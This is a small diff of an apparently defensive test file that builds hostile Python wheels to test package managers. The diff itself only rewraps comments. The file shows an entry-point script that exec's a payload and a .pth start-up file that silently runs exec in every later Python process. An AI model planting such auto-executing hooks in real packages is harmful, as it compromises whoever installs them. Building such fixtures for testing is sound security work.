@@ -1,5 +1,5 @@
-"""Hostile packages of the Python managers: in setup.py while a wheel is built, in a tool that is run
-at once, and in a start-up file that an install leaves."""
+"""Hostile packages of the Python managers: in setup.py while a wheel is built, in a tool that is
+run at once, and in a start-up file that an install leaves."""
 
 import packages
 from hostile_code import HostileCode
@@ -15,8 +15,8 @@ class PythonHostile(HostileCode):
         packages.make_wheel(registry, "evil-tool", "6.6.2", {
             "evil_tool.py": "def main():\n    exec(%r, {})\n" % self.payload()}, ["st-leaf"],
             scripts={"evil-tool": "evil_tool:main"})
-        # A line of a .pth file that begins with "import" is run by every later Python. It is silent:
-        # a manager may ask that Python what it is.
+        # A line of a .pth file that begins with "import" is run by every later Python. It is
+        # silent: a manager may ask that Python what it is.
         silent = "import sys\nout, sys.stdout = sys.stdout, open('/dev/null', 'w')\n"
         packages.make_wheel(registry, "evil-start", "6.6.3", {
             "evil_start.py": "", "evil_start.pth": "import sys; exec(%r, {})\n"
